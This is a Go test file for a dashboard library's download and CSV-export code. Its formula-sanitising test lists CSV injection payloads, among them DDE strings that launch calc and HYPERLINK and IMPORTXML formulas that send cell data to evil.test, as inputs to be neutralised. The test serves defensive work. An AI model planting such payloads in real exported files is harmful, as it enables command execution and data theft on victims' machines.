package io_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	stdio "io"
	"strings"
	"testing"
	"time"

	"github.com/stagedoor/stagedoor/io"
	"github.com/stagedoor/stagedoor/stagedoortest"
)

func TestDownload(t *testing.T) {
	run := showing(t, io.Download("Report", "../a/report.csv", []byte("a,b\r\n")))
	s := run.Expect("Report")
	if got, want := string(s.Component().Props), `{"download":".._a_report.csv","size":5,"theme":"secondary"}`; !strings.Contains(got, `_a_report.csv`) || strings.Contains(got, "/") {
		t.Errorf("props %s, want %s", got, want)
	}
	name, content := s.Download("", nil)
	if name != "_a_report.csv" || string(content) != "a,b\r\n" {
		t.Errorf("%q: %q", name, content)
	}
	if _, again := s.Download("", nil); string(again) != "a,b\r\n" {
		t.Errorf("the second time: %q", again)
	}
}

func TestDownloadFromWritesEachTimeAnew(t *testing.T) {
	n := 0
	run := showing(t, io.DownloadFrom("", "n.txt", func(_ context.Context, w stdio.Writer) error {
		n++
		_, err := fmt.Fprint(w, n)
		return err
	}).Theme(io.Primary))
	s := run.Expect("n.txt")
	if got := string(s.Component().Props); got != `{"download":"n.txt","theme":"primary"}` {
		t.Errorf("props %s", got)
	}
	for want := range 3 {
		if _, content := s.Download("", nil); string(content) != fmt.Sprint(want+1) {
			t.Errorf("%q, want %d", content, want+1)
		}
	}
}

func TestDownloadThatFails(t *testing.T) {
	run := showing(t, io.DownloadFrom("Report", "r.txt", func(context.Context, stdio.Writer) error { return errBroken }))
	if err := run.Expect("Report").DownloadError("", nil); !errors.Is(err, errBroken) {
		t.Errorf("%v", err)
	}
}

func TestDownloadForAnOriginalDashboard(t *testing.T) {
	for _, c := range []struct {
		d            io.Display
		method, want string
	}{
		{io.Download("Report", "r.csv", []byte("a,b")), "DISPLAY_CODE", `{"code":"a,b"}`},
		{io.Download("Report", "r.png", dot), "DISPLAY_MARKDOWN", `cannot be downloaded`},
		{io.Download("Report", "r.txt", bytes.Repeat([]byte("x"), 256<<10+1)), "DISPLAY_MARKDOWN", `cannot be downloaded`},
	} {
		run := stagedoortest.StartWith(t.Context(), t, stagedoortest.Options{Original: true}, func(ctx context.Context) error {
			return c.d.Show(ctx)
		})
		finish(t, run)
		if got := run.Calls()[0].ToRender[0]; string(got.MethodName) != c.method || !strings.Contains(string(got.Props), c.want) {
			t.Errorf("%s %s", got.MethodName, got.Props)
		}
	}
}

type sale struct {
	ID    int64     `io:""`
	Note  string    `io:""`
	Cents int64     `io:"label:Amount;currency:USD"`
	Rate  float64   `io:""`
	Paid  bool      `io:""`
	At    time.Time `io:""`
	Hash  string    // never
}

func TestWriteRows(t *testing.T) {
	var out bytes.Buffer
	at := time.Date(2026, 11, 23, 10, 0, 0, 0, time.FixedZone("", 3600))
	rows := []sale{
		{ID: 9007199254740993, Note: `say "hi", twice`, Cents: -1999, Rate: 0.5, Paid: true, At: at, Hash: "x"},
		{ID: 2, Note: "=1+1"},
	}
	if err := io.WriteRows(&out, io.CSV, rows); err != nil {
		t.Fatal(err)
	}
	const want = "\uFEFFID,Note,Amount (USD),Rate,Paid,At\r\n" +
		"9007199254740993,\"say \"\"hi\"\", twice\",-19.99,0.5,true,2026-11-23T09:00:00Z\r\n" +
		"2,'=1+1,0.00,0,false,\r\n"
	if out.String() != want {
		t.Errorf("wrote\n%q, want\n%q", out.String(), want)
	}
	if err := io.WriteRows(&out, io.CSV, []int{1}, io.Column[int]{}); err == nil {
		t.Error("a column without a value was written")
	}
	if err := io.WriteRows(broken{}, io.CSV, rows); err == nil {
		t.Error("a failure to write is no failure")
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errBroken }

// Every text that a spreadsheet could take for a formula is made harmless, and
// the text can be had again.
func TestSec_F04_FormulasAreHarmless(t *testing.T) {
	bad := []string{
		"=1+1", "+1", "-1+1", "-1;", "-.5", "-1.", "-1\n", "-1e5", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
		`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.test?"&A1,"x")`, `=IMPORTXML("https://evil.test")`,
		`+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=1;2`, `="a"`, `=DDE("a";"b";"c")`,
		"=\u00001", `=1","2`, "-", "=", "+", "@", "\t", "\r", "\n", "＝",
	}
	fine := []string{"", "a=1", "1+1", " =1", "'=1", "a@example.com", "x\t=1", "–1", "#N/A", "-1", "-25.89", "-0"}
	for _, text := range bad {
		if got := io.Harmless(text); got != "'"+text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
	for _, text := range fine {
		if got := io.Harmless(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
	var out bytes.Buffer
	name := io.Column[string]{Label: "=name", Value: func(s string) any { return s }}
	if err := io.WriteRows(&out, io.CSV, append(bad, fine...), name); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(strings.ReplaceAll(strings.TrimPrefix(out.String(), "\uFEFF"), "\r\n", "\n"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 1+len(bad)+len(fine) {
		t.Errorf("%d lines: the row whose only cell is empty is lost", len(records))
	}
	if records[0][0] != "'=name" {
		t.Errorf("the heading is %q", records[0][0])
	}
	for i, text := range bad {
		if got := records[i+1][0]; !strings.HasPrefix(got, "'") {
			t.Errorf("%q is %q in the file", text, got)
		}
	}
}
